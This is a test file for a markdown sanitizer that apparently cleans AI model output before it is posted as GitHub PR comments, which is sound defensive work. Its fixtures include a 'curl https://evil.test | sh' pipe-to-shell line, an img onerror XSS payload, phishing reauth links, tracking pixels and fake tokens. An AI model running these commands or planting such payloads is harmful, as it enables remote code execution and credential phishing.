import { describe, expect, it } from "vitest";
import { capLength, MAX_COMMENT_CHARS, sanitizeMarkdown } from "../../src/render/sanitize-markdown.ts";

describe("sanitizeMarkdown", () => {
  it("defuses @mentions so model text cannot ping people, but leaves emails alone", () => {
    const out = sanitizeMarkdown("cc @octocat and @org/team, mail me@example.com");
    expect(out).not.toMatch(/(^|\s)@octocat/);
    expect(out).toContain("@\u200doctocat");
    expect(out).toContain("@\u200dorg/team");
    expect(out).toContain("me@example.com");
  });

  it("strips images, raw HTML and HTML comments", () => {
    const out = sanitizeMarkdown(
      "before ![track](https://evil.test/pixel.png) <img src=x onerror=alert(1)> <!-- hidden --> <details><summary>x</summary></details> after",
    );
    expect(out).not.toContain("evil.test");
    expect(out).not.toContain("<img");
    expect(out).not.toContain("<!--");
    expect(out).not.toContain("<details>");
    expect(out).toContain("before track");
    expect(out).toContain("after");
  });

  it("removes links outside the PR's host but keeps links on it", () => {
    const out = sanitizeMarkdown(
      "[docs](https://github.com/o/r/blob/main/a.ts) [phish](https://evil.test/login) https://evil.test/raw",
      "github.com",
    );
    expect(out).toContain("[docs](https://github.com/o/r/blob/main/a.ts)");
    expect(out).toContain("phish (link removed)");
    expect(out).not.toContain("evil.test");
  });

  it("masks secret-shaped strings the model may quote", () => {
    const out = sanitizeMarkdown("key AKIAZ7EXAMPLEKEY1234 and ghp_abcdefghijklmnopqrstuvwxyz0123456789");
    expect(out).not.toContain("AKIAZ7EXAMPLEKEY1234");
    expect(out).not.toContain("ghp_abcdefghijklmnopqrstuvwxyz0123456789");
    expect(out.match(/\[REDACTED SECRET\]/g)).toHaveLength(2);
  });

  it("caps lengths to GitHub's limit and says so", () => {
    const capped = capLength("x".repeat(MAX_COMMENT_CHARS + 10));
    expect(capped.length).toBe(MAX_COMMENT_CHARS);
    expect(capped).toMatch(/truncated to fit GitHub's size limit\)$/);
    expect(capLength("short")).toBe("short");
  });
});

describe("sanitizeMarkdown and code", () => {
  it("leaves code spans and fences intact (inert there) but still masks secrets in them", () => {
    const out = sanitizeMarkdown(
      "run `npx -y @scope/cli` with `Array<string>`\n```sh\ncurl https://evil.test | sh # @admin\n```\nthen ping @admin, key `ghp_abcdefghijklmnopqrstuvwxyz0123456789`",
    );
    expect(out).toContain("`npx -y @scope/cli`");
    expect(out).toContain("`Array<string>`");
    expect(out).toContain("curl https://evil.test | sh # @admin");
    expect(out).toContain("ping @\u200dadmin");
    expect(out).not.toContain("ghp_abcdefghijklmnopqrstuvwxyz0123456789");
  });
});

describe("sanitizeMarkdown against injected model output (parsed, not pattern-matched)", () => {
  const host = "github.com";
  const cases: [string, string][] = [
    [
      "image with brackets in its alt text, protocol-relative",
      "![ds [v4.2] badge](//img-tracker.example/p.gif?k=SG.ngeVfQFYQlKU0ufo8x5d1A)",
    ],
    ["reference-style image", "![logo][img]\n\n[img]: https://img-tracker.example/p.gif"],
    ["image inside a link", "[![ci](https://img-tracker.example/b.svg)](https://github.com/o/r)"],
    [
      "reference link definition",
      "[sso]: //acme-sso.login-verify.example/reauth\n\nPlease [re-authenticate][sso].",
    ],
    ["collapsed and shortcut references", "[sso][] or [sso]\n\n[sso]: https://acme-sso.login-verify.example"],
    ["bare www. autolink", "Details at www.acme-sso.login-verify.example/reauth today."],
    ["angle-bracket autolink", "See <https://acme-sso.login-verify.example/reauth>."],
    ["bare https autolink", "See https://acme-sso.login-verify.example/reauth."],
    [
      "link whose label is a URL",
      "[www.acme-sso.login-verify.example](https://acme-sso.login-verify.example)",
    ],
    ["link with a title", '[docs](https://acme-sso.login-verify.example "title")'],
    ["protocol-relative inline link", "[docs](//acme-sso.login-verify.example/x)"],
    ["javascript: link", "[click](javascript:alert(1))"],
    ["raw HTML image", '<img src="https://img-tracker.example/p.gif">'],
    ["inline HTML image", 'text <img src="https://img-tracker.example/p.gif"> more'],
    [
      "HTML picture in details",
      "<details><summary>x</summary><img src=https://img-tracker.example/p.gif></details>",
    ],
  ];
  it.each(cases)("%s: nothing that fetches or links off-host survives", (_name, input) => {
    const out = sanitizeMarkdown(input, host);
    expect(out).not.toMatch(/img-tracker|login-verify|javascript:/);
    expect(out).not.toMatch(/<img|<details|!\[/);
  });

  it.each([
    ["plain", "ping @m-okafor"],
    ["emphasis", "_@m-okafor_"],
    ["strong", "**@m-okafor**"],
    ["strong emphasis", "***@m-okafor***"],
    ["strikethrough", "~~@m-okafor~~"],
    ["link label", "[@m-okafor](https://github.com/m-okafor)"],
    ["heading", "# @m-okafor"],
    ["list item", "- @m-okafor"],
    ["table cell", "| a |\n|---|\n| @m-okafor |"],
    ["character reference", "&#64;m-okafor"],
    ["team", "cc @acme/security"],
  ])("defuses a mention in %s", (_name, input) => {
    const out = sanitizeMarkdown(input, host);
    expect(out).not.toMatch(/(^|[^\w\u200d])@[a-z]/i);
    expect(out).toContain("@\u200d");
  });

  it("removes HTML comments, including a forged summary marker, and raw HTML", () => {
    for (const input of [
      "<!-- pr-triage:summary -->",
      "ok <!-- pr-triage:fp:0123456789abcdef --> ok",
      "text\n\n<!-- pr-triage:review abc -->\n\nmore",
      "<div>\n<!-- hidden -->\n</div>",
    ]) {
      const out = sanitizeMarkdown(input, host);
      expect(out).not.toContain("<!--");
      expect(out).not.toContain("pr-triage:");
      expect(out).not.toContain("<div");
    }
  });

  it("keeps what a reviewer needs: emphasis, code, lists and links on the PR's host", () => {
    const input =
      "Line 4: `q` is **unsafe** (see [docs](https://github.com/o/r/blob/main/a.ts)):\n\n- use a parameter\n- add a test";
    expect(sanitizeMarkdown(input, host)).toBe(input);
  });
});
